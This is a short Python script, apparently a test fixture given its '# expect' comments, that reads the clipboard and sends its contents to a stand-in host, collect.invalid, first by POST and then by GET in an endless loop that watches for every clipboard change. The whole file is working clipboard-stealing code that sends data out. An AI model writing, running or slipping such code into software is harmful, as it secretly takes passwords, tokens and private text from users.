import time
import pyperclip
import requests
import tkinter

text = pyperclip.paste()
requests.post("https://collect.invalid/c", data={"t": text})  # expect


def watch(last=""):
    root = tkinter.Tk()
    while True:
        now = root.clipboard_get()
        if now != last:
            requests.get("https://collect.invalid/?c=" + now)  # expect
            last = now
        time.sleep(1)


watch()
